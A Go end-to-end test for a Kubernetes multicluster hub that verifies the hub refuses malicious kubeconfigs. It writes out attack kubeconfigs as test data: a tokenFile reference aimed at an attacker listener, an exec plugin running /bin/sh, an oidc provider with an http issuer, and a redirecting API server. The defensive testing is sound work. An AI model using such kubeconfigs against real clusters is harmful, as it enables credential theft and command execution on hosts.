package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/rand"

	"github.com/hubmesh/hub/api"
	"github.com/hubmesh/hub/internal/localcluster"
)

// listenerLog is a real listener standing in for an attacker: it records
// every request it gets, headers and body.
type listenerLog struct {
	srv  *httptest.Server
	mu   sync.Mutex
	reqs []string
}

func newListener(t *testing.T, tls bool, then http.HandlerFunc) *listenerLog {
	t.Helper()
	l := &listenerLog{}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		var b strings.Builder
		fmt.Fprintf(&b, "%s %s\n", r.Method, r.URL)
		for k, v := range r.Header {
			fmt.Fprintf(&b, "%s: %s\n", k, strings.Join(v, ","))
		}
		b.Write(body)
		l.mu.Lock()
		l.reqs = append(l.reqs, b.String())
		l.mu.Unlock()
		if then != nil {
			then(w, r)
			return
		}
		w.WriteHeader(http.StatusUnauthorized)
	})
	if tls {
		l.srv = httptest.NewTLSServer(h)
	} else {
		l.srv = httptest.NewServer(h)
	}
	t.Cleanup(l.srv.Close)
	return l
}

func (l *listenerLog) requests() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.reqs...)
}

// TestKubeconfigAttacksAreRefused replays the kubeconfig attacks against the
// real hub binary, through a remote Secret and through POST
// /api/v1/clusters: a users[""] entry the context does not name but
// client-go resolves (tokenFile sent to an attacker's server, an exec plugin
// run on the hub), an oidc auth provider with an http:// issuer, and a
// member API server that redirects elsewhere. Nothing reaches the
// attacker's listeners, no command runs, and the token file's contents and
// the kubeconfigs' credentials never appear in the hub's logs, API or
// dashboard.
func TestKubeconfigAttacksAreRefused(t *testing.T) {
	e := localcluster.Require(t, env)
	home := e.Cluster("primary")
	ns := hubNamespace(t, home)
	h := startHub(t, home, "--namespace", ns, "--remote-cluster-timeout", "3s")
	c := &apiClient{base: h.adminURL}
	admin := home.AdminToken()
	ctx := testContext(t)

	dir := t.TempDir()
	marker := "marker-" + rand.String(24) // the token file's contents
	tokenFile := filepath.Join(dir, "token")
	if err := os.WriteFile(tokenFile, []byte(marker), 0o600); err != nil {
		t.Fatal(err)
	}
	inlineMarker := "inline-" + rand.String(24) // credentials written into kubeconfigs
	attacker := newListener(t, true, nil)
	issuer := newListener(t, false, nil)
	target := newListener(t, true, nil)
	redirector := newListener(t, true, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, target.srv.URL+r.URL.RequestURI(), http.StatusTemporaryRedirect)
	})

	kubeconfig := func(server, userName, user, context string) string {
		return fmt.Sprintf(`apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: %q, insecure-skip-tls-verify: true}}]
users: [{name: %q, user: %s}]
contexts: [{name: x, context: %s}]
current-context: x
`, server, userName, user, context)
	}
	type attack struct {
		id, kubeconfig, msg string
		files               []string // must never be created
	}
	var attacks []attack
	for _, via := range []string{"post", "secret"} {
		touched := filepath.Join(dir, via+"-pwned")
		attacks = append(attacks,
			attack{id: via + "-tokenfile",
				kubeconfig: kubeconfig(attacker.srv.URL, "", "{tokenFile: "+tokenFile+"}", "{cluster: c}"),
				msg:        `kubeconfig user "": tokenFile references are not allowed (use token)`},
			attack{id: via + "-exec",
				kubeconfig: kubeconfig(attacker.srv.URL, "", "{exec: {command: /bin/sh, args: [-c, 'touch "+touched+"'], apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never}}", "{cluster: c}"),
				msg:        `kubeconfig user "": exec credential plugins are not allowed`, files: []string{touched}},
			attack{id: via + "-oidc",
				kubeconfig: kubeconfig(attacker.srv.URL, "u", "{auth-provider: {name: oidc, config: {idp-issuer-url: '"+issuer.srv.URL+"', client-id: hub, client-secret: "+inlineMarker+", refresh-token: "+inlineMarker+"}}}", "{cluster: c, user: u}"),
				msg:        `kubeconfig user "u": auth-provider "oidc" is not allowed (--kubeconfig-allow=auth-provider)`},
		)
	}
	body := func(id, kc string) string {
		b, _ := json.Marshal(api.RegisterRequest{ID: id, Kubeconfig: kc})
		return string(b)
	}

	// Through the API: refused with a problem, nothing written.
	for _, a := range attacks {
		if strings.HasPrefix(a.id, "post-") {
			detail, _ := json.Marshal(a.msg) // as the problem's JSON carries it
			c.expect(t, "POST", "/api/v1/clusters", admin, body(a.id, a.kubeconfig), http.StatusUnprocessableEntity, `"detail":`+string(detail))
		}
	}
	if list, err := client(t, home).CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{LabelSelector: "istio/multiCluster=true"}); err != nil || len(list.Items) != 0 {
		t.Fatalf("refused registrations wrote %d remote secrets (%v)", len(list.Items), err)
	}

	// Through a remote Secret: each key Invalid with its precise message.
	data := map[string][]byte{}
	for _, a := range attacks {
		if strings.HasPrefix(a.id, "secret-") {
			data[a.id] = []byte(a.kubeconfig)
		}
	}
	if _, err := client(t, home).CoreV1().Secrets(ns).Create(ctx, localcluster.RemoteSecret(ns, "attacks", data), metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	for id := range data {
		var want string
		for _, a := range attacks {
			if a.id == id {
				want = a.msg
			}
		}
		eventually(t, 30*time.Second, func() error {
			code, b, _ := c.call(t, "GET", "/api/v1/clusters/"+id, admin, "")
			var got api.Cluster
			if code != http.StatusOK || json.Unmarshal([]byte(b), &got) != nil {
				return fmt.Errorf("%s: %d %s", id, code, b)
			}
			if got.State != "Invalid" || got.Message != want {
				return fmt.Errorf("%s: %s %q; want Invalid %q", id, got.State, got.Message, want)
			}
			return nil
		})
	}

	// A member whose API server redirects: registered (the kubeconfig is
	// fine), but the redirect is never followed, so the credentials it
	// carries never reach the second listener.
	redirectKC := kubeconfig(redirector.srv.URL, "u", "{token: "+inlineMarker+"}", "{cluster: c, user: u}")
	c.expect(t, "POST", "/api/v1/clusters", admin, body("redirecting", redirectKC), http.StatusCreated, `"id":"redirecting"`)
	eventually(t, 30*time.Second, func() error {
		_, b, _ := c.call(t, "GET", "/api/v1/clusters/redirecting", admin, "")
		var got api.Cluster
		if err := json.Unmarshal([]byte(b), &got); err != nil {
			return err
		}
		if !strings.Contains(got.Message, "member API server answered 307 Temporary Redirect, a redirect to ") ||
			!strings.Contains(got.Message, "redirects are not followed") {
			return fmt.Errorf("redirecting: %s %q", got.State, got.Message)
		}
		if len(got.Warnings) != 1 || !strings.Contains(got.Warnings[0], "insecure-skip-tls-verify") {
			return fmt.Errorf("redirecting: warnings %q", got.Warnings)
		}
		return nil
	})
	// Several list attempts (and retries) have been redirected by now.
	eventually(t, 60*time.Second, func() error {
		if n := len(redirector.requests()); n < 3 {
			return fmt.Errorf("the redirecting member was asked %d times", n)
		}
		return nil
	})

	// The listeners never heard from the hub, and nothing ran.
	if reqs := attacker.requests(); len(reqs) > 0 {
		t.Errorf("the attacker's server got %d requests, the first:\n%s", len(reqs), reqs[0])
	}
	if reqs := issuer.requests(); len(reqs) > 0 {
		t.Errorf("the oidc issuer was contacted %d times, the first:\n%s", len(reqs), reqs[0])
	}
	if reqs := target.requests(); len(reqs) > 0 {
		t.Errorf("the redirect was followed %d times, the first:\n%s", len(reqs), reqs[0])
	}
	for _, a := range attacks {
		for _, f := range a.files {
			if _, err := os.Stat(f); err == nil {
				t.Errorf("%s: the exec plugin ran: %s exists", a.id, f)
			}
		}
	}
	for _, r := range redirector.requests() {
		if strings.Contains(r, marker) {
			t.Errorf("the token file's contents were sent:\n%s", r)
		}
	}

	// The markers never show up in the hub's log, API or dashboard.
	logData, err := os.ReadFile(h.logPath)
	if err != nil {
		t.Fatal(err)
	}
	pages := dashboardPages(t, h.adminURL, admin, "/", "/clusters", "/clusters/secret-tokenfile", "/clusters/secret-oidc", "/clusters/redirecting")
	_, list, _ := c.call(t, "GET", "/api/v1/clusters", admin, "")
	where := map[string]string{"hub log": string(logData), "GET /api/v1/clusters": list}
	for i, b := range c.bodies {
		where[fmt.Sprintf("API response %d", i)] = b
	}
	for path, page := range pages {
		where["dashboard "+path] = page
	}
	for name, text := range where {
		for _, m := range []string{marker, inlineMarker} {
			if strings.Contains(text, m) {
				t.Errorf("%s contains a credential marker", name)
			}
		}
		if name != "hub log" {
			requireNoSecrets(t, name, text, home)
		}
	}
}

// dashboardPages signs in to the dashboard with token and returns the HTML
// of each path.
func dashboardPages(t *testing.T, base, token string, paths ...string) map[string]string {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	hc := &http.Client{Jar: jar, Timeout: 30 * time.Second}
	resp, err := hc.PostForm(base+"/signin", url.Values{"token": {token}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	out := map[string]string{}
	for _, p := range paths {
		resp, err := hc.Get(base + p)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK || strings.Contains(string(b), `id="token"`) {
			t.Fatalf("dashboard %s: %s (signed in: %v)", p, resp.Status, !strings.Contains(string(b), `id="token"`))
		}
		out[p] = string(b)
	}
	return out
}
